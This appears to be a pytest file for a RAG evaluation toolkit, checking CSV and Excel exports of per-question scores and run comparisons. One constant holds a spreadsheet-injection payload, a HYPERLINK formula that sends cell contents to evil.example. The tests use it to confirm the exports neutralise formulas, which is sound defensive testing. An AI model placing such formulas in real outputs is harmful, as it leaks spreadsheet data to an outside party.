"""rows.csv / rows.xlsx (one row per question, for a spreadsheet) and compare_rows: read
back with the csv module and openpyxl. The logic tests score answer records built by hand
(no model: they say so where they build them); one test goes through the real
`ragkit eval run` with the default model on a 3-question set, then rescore and compare."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from conftest import ROOT
from typer.testing import CliRunner

from ragkit.eval.sets import EvalItem, load_set, write_set

NDA_DEMO = ROOT / "eval" / "sets" / "nda-demo.jsonl"
_EXE = Path(sys.executable).parent / "ragkit"
RAGKIT = [str(_EXE)] if _EXE.exists() else [sys.executable, "-m", "ragkit.cli"]
HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"see the clause")'
EV = "Confidentiality obligations survive for three (3) years from the date of disclosure"


def _cli():
    from ragkit.cli import app

    return app


def _csv(path: Path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs to read UTF-8
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _xlsx(path: Path):
    ws = openpyxl.load_workbook(path).active
    header = [c.value for c in ws[1]]
    rows = [{h: c for h, c in zip(header, r)} for r in ws.iter_rows(min_row=2)]
    return ws, header, rows


def _as_csv(v) -> str:
    """How a figure of report.json reads in the CSV: yes/no as 1/0, none as empty."""
    if v is None:
        return ""
    if isinstance(v, bool):
        return str(int(v))
    return str(v)


def _as_xlsx(v):
    return int(v) if isinstance(v, bool) else v


def _no_formulas(path: Path) -> None:
    """No cell of the workbook's sheets is a formula (an <f> element in the sheet XML)."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name


# ---------------------------------------------------------------------- hand-built records

Q_OK = 'What\'s the "survival" term, in years?\nAnswer briefly; é ü'


def _ctx(n, text, doc="a.pdf", page=2):
    return {"n": n, "rank": n, "doc": doc, "page": page, "page_end": page, "tokens": 40, "text": text}


def _rec(id_, answer, **kw):
    """An answer record as Answerer writes it, built by hand (no model)."""
    rec = {"id": id_, "status": "ok", "retrieval_only": False, "mode": "retrieved", "prompt_tokens": 400,
           "cached_tokens": 0, "completion_tokens": 12, "timings": {"retrieve_s": 0.1, "total_s": 2.5},
           "answer": answer, "abstained": False, "abstain_reason": None, "citations": [], "invalid_citations": [],
           "contexts": [_ctx(1, "Intro. " + EV + "."), _ctx(2, "Other terms.", doc="b.pdf", page=None)]}
    rec.update(kw)
    return rec


ITEMS = [
    EvalItem(id="q-ok", question=Q_OK, doc="a.pdf", answers=["three (3) years", "3 years"], evidence=EV, page=2),
    EvalItem(id="q-hostile", question="Which law governs?", doc="a.pdf", answers=["Manitoba"]),
    EvalItem(id="q-err", question="How long is the term?", doc="missing.pdf", answers=["two years"], evidence=EV, page=1),
    EvalItem(id="q-abstain", question="What is the purchase price?", doc="a.pdf", answerable=False),
    EvalItem(id="q-unverified", question="Who are the parties?", doc="a.pdf", answers=["Acme"]),
]
ERROR = "no ingested document matches --doc 'missing.pdf'"
RECORDS = {
    "q-ok": _rec("q-ok", "They survive three (3) years [1].",
                 citations=[{"n": 1, "doc": "a.pdf", "page": 2, "section": "5", "quote": EV, "inferred": False},
                            {"n": 2, "doc": "b.pdf", "page": None, "section": None, "quote": "Other", "inferred": True}]),
    "q-hostile": _rec("q-hostile", HOSTILE, abstain_reason=None),
    "q-err": {"id": "q-err", "status": "error", "error": ERROR, "question": "How long is the term?", "doc": "missing.pdf",
              "retrieval_only": False, "checklist": False},
    "q-abstain": _rec("q-abstain", "The documents do not say.", abstained=True,
                      abstain_reason="no source is relevant to the question (best 0.12 < 0.30)"),
    # an outcome field the record may carry (another engineer's "unverified"): written as it is
    "q-unverified": _rec("q-unverified", "Acme and Beta.", outcome="unverified"),
}


def _write_run(run: Path, items: list[EvalItem], records: dict[str, dict]) -> dict:
    """A run folder scored from hand-built records: set file, answers.jsonl, report, rows."""
    from ragkit.config import load_settings
    from ragkit.eval.rows import write_run_files
    from ragkit.eval.run import score

    run.mkdir(parents=True)
    set_path = run / "set.jsonl"
    write_set(items, set_path)
    (run / "answers.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records.values()), encoding="utf-8")
    report = score(items, records, load_settings())
    report["run"] = {"set": str(set_path), "set_digest": "hand", "retrieval_only": False}
    report["files"] = write_run_files(run, report, load_settings(), items, records)
    return report


def test_rows_hold_one_row_per_question_in_set_order(tmp_path):
    report = _write_run(tmp_path / "run", ITEMS, RECORDS)
    rows = _csv(tmp_path / "run" / "rows.csv")
    assert [r["id"] for r in rows] == [i.id for i in ITEMS]
    by = {r["id"]: r for r in rows}
    # the question and the gold text exactly (quotes, comma, newline, accents survive)
    assert by["q-ok"]["question"] == Q_OK
    assert by["q-ok"]["gold_answer"] == "three (3) years | 3 years"
    assert (by["q-ok"]["gold_doc"], by["q-ok"]["gold_page"], by["q-ok"]["gold_evidence"]) == ("a.pdf", "2", EV)
    assert by["q-ok"]["answer"] == "They survive three (3) years [1]."
    # citations: the first in its own columns, all as "doc p.N; ...", an inferred one marked
    assert (by["q-ok"]["first_cited_doc"], by["q-ok"]["first_cited_page"]) == ("a.pdf", "2")
    assert by["q-ok"]["citations"] == "a.pdf p.2; b.pdf (inferred)"
    # outcomes: from `abstained`, or the record's own `outcome`
    assert [by[i]["outcome"] for i in ("q-ok", "q-err", "q-abstain", "q-unverified")] == [
        "supported", "error", "abstained", "unverified"]
    assert by["q-abstain"]["abstain_reason"] == RECORDS["q-abstain"]["abstain_reason"]
    assert by["q-abstain"]["answerable"] == "0" and by["q-ok"]["answerable"] == "1"
    # an errored question carries its error, and counts as a miss
    assert by["q-err"]["error"] == ERROR and by["q-err"]["answer"] == "" and by["q-err"]["failed"] == "1"
    assert by["q-ok"]["error"] == ""
    # every figure of every row is what report.json says for that question
    js = json.loads((tmp_path / "run" / "report.json").read_text(encoding="utf-8"))
    scored = {q["id"]: q for q in js["questions"]}
    metric_cols = [c for c in rows[0] if c in scored["q-ok"] and c not in ("id", "question", "answer", "why", "quote")]
    assert {"answer_match", "token_f1", "evidence_in_context", "rr", "page_hit", "valid_citation"} <= set(metric_cols)
    for r in rows:
        for c in metric_cols:
            assert r[c] == _as_csv(scored[r["id"]].get(c)), (r["id"], c)
        assert r["total_s"] == _as_csv(scored[r["id"]].get("timings", {}).get("total_s"))
    assert by["q-ok"]["answer_match"] == "1" and by["q-err"]["answer_match"] == "0"
    assert float(by["q-ok"]["token_f1"]) == pytest.approx(scored["q-ok"]["token_f1"])
    assert report["files"]["rows_csv"] == str(tmp_path / "run" / "rows.csv")
    assert js["rows"] == {"csv": "rows.csv", "xlsx": "rows.xlsx", "note": None}
    assert "one row per question: rows.csv and rows.xlsx" in (tmp_path / "run" / "report.md").read_text(encoding="utf-8")


def test_xlsx_rows_numbers_header_and_layout(tmp_path):
    _write_run(tmp_path / "run", ITEMS, RECORDS)
    path = tmp_path / "run" / "rows.xlsx"
    ws, header, rows = _xlsx(path)
    assert header == list(_csv(tmp_path / "run" / "rows.csv")[0])
    assert [r["id"].value for r in rows] == [i.id for i in ITEMS]
    scored = {q["id"]: q for q in json.loads((tmp_path / "run" / "report.json").read_text())["questions"]}
    by = {r["id"].value: r for r in rows}
    assert by["q-ok"]["question"].value == Q_OK and by["q-ok"]["gold_answer"].value == "three (3) years | 3 years"
    for qid, r in by.items():
        for c in ("answer_match", "token_f1", "evidence_in_context", "rr", "page_hit"):
            if c in header:
                assert r[c].value == _as_xlsx(scored[qid].get(c)), (qid, c)
    # numbers as numbers
    assert isinstance(by["q-ok"]["token_f1"].value, float) and by["q-ok"]["token_f1"].data_type == "n"
    assert by["q-ok"]["gold_page"].value == 2 and by["q-ok"]["answer_match"].value == 1
    assert by["q-err"]["error"].value == ERROR
    # header bold and frozen, a filter over the table, long text wrapped and wide
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "B2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(row=1, column=len(header)).column_letter}{len(ITEMS) + 1}"
    qcol = ws.cell(row=1, column=header.index("question") + 1).column_letter
    assert ws.column_dimensions[qcol].width >= 40 and by["q-ok"]["question"].alignment.wrap_text
    idcol = ws.cell(row=1, column=1).column_letter
    assert ws.column_dimensions[idcol].width < 30


def test_a_hostile_answer_is_neutralised_in_both_formats(tmp_path):
    _write_run(tmp_path / "run", ITEMS, RECORDS)
    by = {r["id"]: r for r in _csv(tmp_path / "run" / "rows.csv")}
    assert by["q-hostile"]["answer"] == "'" + HOSTILE  # text, not a formula, when Excel opens it
    assert by["q-ok"]["answer"] == RECORDS["q-ok"]["answer"]  # only the cells that need it
    path = tmp_path / "run" / "rows.xlsx"
    _, _, rows = _xlsx(path)
    cell = {r["id"].value: r for r in rows}["q-hostile"]["answer"]
    assert cell.value == HOSTILE and cell.data_type == "s"
    _no_formulas(path)


def test_without_openpyxl_only_the_csv_and_the_report_says_so(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # `import openpyxl` raises ImportError
    report = _write_run(tmp_path / "run", ITEMS, RECORDS)
    assert (tmp_path / "run" / "rows.csv").exists() and not (tmp_path / "run" / "rows.xlsx").exists()
    assert report["files"]["rows_xlsx"] is None
    note = report["rows"]["note"]
    assert "openpyxl is not installed" in note
    assert note in (tmp_path / "run" / "report.md").read_text(encoding="utf-8")
    assert json.loads((tmp_path / "run" / "report.json").read_text())["rows"]["xlsx"] is None


def test_compare_rows_mark_what_changed_and_rows_of_one_run(tmp_path):
    a = tmp_path / "a"
    b = tmp_path / "b"
    _write_run(a, ITEMS, RECORDS)
    # run B, built by hand: q-ok now abstains, q-abstain is gone, q-new is new
    items_b = [i for i in ITEMS if i.id != "q-abstain"] + [EvalItem(id="q-new", question="Is there a non-solicit?",
                                                                    answers=["Yes"], doc="a.pdf")]
    recs_b = {k: v for k, v in RECORDS.items() if k != "q-abstain"}
    recs_b["q-ok"] = _rec("q-ok", "The documents do not say.", abstained=True, abstain_reason="weak sources")
    recs_b["q-new"] = _rec("q-new", "Yes [1].")
    _write_run(b, items_b, recs_b)
    res = CliRunner().invoke(_cli(), ["eval", "compare", str(a), str(b), "--out", str(tmp_path / "cmp"), "--json"])
    out = json.loads(res.stdout)
    assert out["files"]["compare_rows_csv"] == str(tmp_path / "cmp" / "compare_rows.csv")
    assert Path(out["files"]["compare_rows_xlsx"]).exists()
    rows = _csv(tmp_path / "cmp" / "compare_rows.csv")
    assert [r["id"] for r in rows] == ["q-ok", "q-hostile", "q-err", "q-abstain", "q-unverified", "q-new"]
    by = {r["id"]: r for r in rows}
    ok = by["q-ok"]
    assert ok["question"] == Q_OK and ok["gold_answer"] == "three (3) years | 3 years"
    assert (ok["answer A"], ok["outcome A"]) == (RECORDS["q-ok"]["answer"], "supported")
    assert (ok["answer B"], ok["outcome B"]) == ("The documents do not say.", "abstained")
    assert (ok["answer_match A"], ok["answer_match B"]) == ("1", "0")
    changed = ok["changed"].split("; ")
    assert "answer_match 1->0" in changed and "outcome supported->abstained" in changed and "answer text" in changed
    # the figures on each side are each run's own report
    sa = {q["id"]: q for q in json.loads((a / "report.json").read_text())["questions"]}
    sb = {q["id"]: q for q in json.loads((b / "report.json").read_text())["questions"]}
    assert ok["token_f1 A"] == _as_csv(sa["q-ok"]["token_f1"]) and ok["token_f1 B"] == _as_csv(sb["q-ok"]["token_f1"])
    assert by["q-err"]["changed"] == "" and by["q-hostile"]["changed"] == ""  # the same records
    assert by["q-abstain"]["changed"] == "only in A" and by["q-abstain"]["answer B"] == ""
    assert by["q-new"]["changed"] == "only in B" and by["q-new"]["answer A"] == ""
    assert by["q-new"]["answer B"] == "Yes [1]."
    assert by["q-hostile"]["answer A"] == "'" + HOSTILE
    assert out["compare_rows"]["n_rows"] == 6 and out["compare_rows"]["n_changed"] == 3
    _, header, xrows = _xlsx(tmp_path / "cmp" / "compare_rows.xlsx")
    xby = {r["id"].value: r for r in xrows}
    assert header[:8] == ["id", "question", "gold_answer", "answer A", "outcome A", "answer B", "outcome B", "changed"]
    assert xby["q-ok"]["answer_match A"].value == 1 and xby["q-ok"]["answer_match B"].value == 0
    assert xby["q-hostile"]["answer B"].value == HOSTILE and xby["q-hostile"]["answer B"].data_type == "s"
    _no_formulas(tmp_path / "cmp" / "compare_rows.xlsx")
    # without --out nothing is written; --out naming a file is a usage error
    res = CliRunner().invoke(_cli(), ["eval", "compare", str(a), str(b), "--json"])
    assert json.loads(res.stdout)["files"] == {}
    res = CliRunner().invoke(_cli(), ["eval", "compare", str(a), str(b), "--out", str(a / "report.json")])
    assert res.exit_code == 2 and "is a file" in res.output and "Traceback" not in res.output


# ---------------------------------------------------------------------- the real path

@pytest.mark.complete
def test_real_eval_run_rows_rescore_and_compare(nda_store, tmp_path):
    """`ragkit eval run` with the default model on 2 nda-demo questions and one whose
    document the store lacks (it errors); then one answer replaced by hand with a hostile
    one, `eval rescore` rewrites the rows, and `eval compare --out` marks that row."""
    items = load_set(NDA_DEMO)[:2] + [EvalItem(id="no-such-doc", question="Which law governs?", doc="no-such-nda.pdf",
                                               answers=["Manitoba"], evidence="the laws of Manitoba", page=2)]
    set_path = tmp_path / "tiny.jsonl"
    write_set(items, set_path)
    run = tmp_path / "run"
    env = {**__import__("os").environ, "RAGKIT_GENERATOR__N_CTX": "2048", "RAGKIT_GENERATOR__MAX_TOKENS": "48"}
    proc = subprocess.run(RAGKIT + ["eval", "run", str(set_path), "--store", str(nda_store.store), "--out", str(run), "--json"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=900)
    assert proc.returncode == 0, proc.stderr[-2000:]
    out = json.loads(proc.stdout)
    assert out["files"]["rows_csv"] == str(run / "rows.csv") and out["files"]["rows_xlsx"] == str(run / "rows.xlsx")
    assert all(Path(p).exists() for p in out["files"].values())
    recs = {json.loads(x)["id"]: json.loads(x) for x in (run / "answers.jsonl").read_text().splitlines() if x.strip()}
    scored = {q["id"]: q for q in json.loads((run / "report.json").read_text())["questions"]}
    rows = _csv(run / "rows.csv")
    assert [r["id"] for r in rows] == [i.id for i in items]
    for item, r in zip(items, rows):
        assert r["question"] == item.question and r["gold_answer"] == " | ".join(item.answers)
        rec = recs[item.id]
        if rec["status"] == "ok":
            assert r["answer"] == (("'" + rec["answer"]) if rec["answer"][:1] in "=+-@" else rec["answer"])
            assert r["outcome"] == ("abstained" if rec["abstained"] else "supported")
            assert r["citations"] == "; ".join(f"{c['doc']}{'' if c['page'] is None else ' p.' + str(c['page'])}"
                                               f"{' (inferred)' if c['inferred'] else ''}" for c in rec["citations"])
            assert r["first_cited_doc"] == (rec["citations"][0]["doc"] if rec["citations"] else "")
        for c in ("answer_match", "token_f1", "evidence_in_context", "evidence_rank", "page_hit", "valid_citation",
                  "n_citations", "prompt_tokens"):
            if c in scored[item.id] or c in r:
                assert r[c] == _as_csv(scored[item.id].get(c)), (item.id, c)
    err = {r["id"]: r for r in rows}["no-such-doc"]
    assert recs["no-such-doc"]["status"] == "error"
    assert err["error"] == recs["no-such-doc"]["error"] and "no-such-nda" in err["error"] and err["outcome"] == "error"
    _, _, xrows = _xlsx(run / "rows.xlsx")
    assert [x["id"].value for x in xrows] == [i.id for i in items]
    assert [x["question"].value for x in xrows] == [i.question for i in items]

    # the first answer replaced by hand with a hostile one; rescore rewrites the rows
    hostile = tmp_path / "hostile"
    shutil.copytree(run, hostile)
    first = items[0].id
    lines = [{**r, "answer": HOSTILE} if r["id"] == first else r for r in recs.values()]
    (hostile / "answers.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    res = CliRunner().invoke(_cli(), ["eval", "rescore", str(hostile), "--json"])
    assert res.exit_code == 0, res.output
    assert json.loads(res.stdout)["files"]["rows_xlsx"] == str(hostile / "rows.xlsx")
    hrows = {r["id"]: r for r in _csv(hostile / "rows.csv")}
    assert hrows[first]["answer"] == "'" + HOSTILE
    _, _, xrows = _xlsx(hostile / "rows.xlsx")
    cell = {x["id"].value: x for x in xrows}[first]["answer"]
    assert cell.value == HOSTILE and cell.data_type == "s"
    _no_formulas(hostile / "rows.xlsx")
    hs = {q["id"]: q for q in json.loads((hostile / "report.json").read_text())["questions"]}
    assert hrows[first]["answer_match"] == _as_csv(hs[first]["answer_match"])

    # compare the two: the changed row names its answer (and any figure that moved), the others nothing
    res = CliRunner().invoke(_cli(), ["eval", "compare", str(run), str(hostile), "--out", str(tmp_path / "cmp")])
    assert res.exit_code in (0, 1), res.output
    cmp = {r["id"]: r for r in _csv(tmp_path / "cmp" / "compare_rows.csv")}
    assert "answer text" in cmp[first]["changed"].split("; ")
    for k in ("answer_match", "token_f1"):
        if scored[first].get(k) != hs[first].get(k):
            assert any(x.startswith(f"{k} ") for x in cmp[first]["changed"].split("; ")), k
    assert [cmp[i.id]["changed"] for i in items[1:]] == ["", ""]


def test_text_xml_forbids_is_dropped_from_the_xlsx_not_the_run(tmp_path):
    """A PDF's text can hold characters XML forbids (seen: pdfium's U+FFFE for a breakable
    hyphen in CUAD filings, a lone surrogate); openpyxl raised on them at the end of an
    80-question run. The xlsx drops them; the CSV keeps the answer as recorded."""
    from ragkit.eval.rows import write_xlsx

    path = tmp_path / "rows.xlsx"
    write_xlsx(path, ["id", "answer"], [{"id": "q", "answer": "a non\ufffetransferable licence \udc80\x0c ok"}])
    _, header, rows = _xlsx(path)
    assert header == ["id", "answer"] and rows[0]["answer"].value == "a nontransferable licence  ok"


def test_pdfium_breakable_hyphen_is_read_as_a_hyphen(tmp_path):
    """The text layer of a real CUAD filing: pdfium returns U+FFFE where the PDF has a
    breakable hyphen ("non-transferable"); ingest reads it as "-"."""
    from conftest import SHARED

    from ragkit.ingest.loaders import load

    src = SHARED / "cuad-10" / "pdf"
    pdf = next(src.glob("ENERGOUSCORP*"))
    text = " ".join(b.text for b in load(pdf))
    assert "\ufffe" not in text and "non-transferable" in text.replace("\xa0", " ")
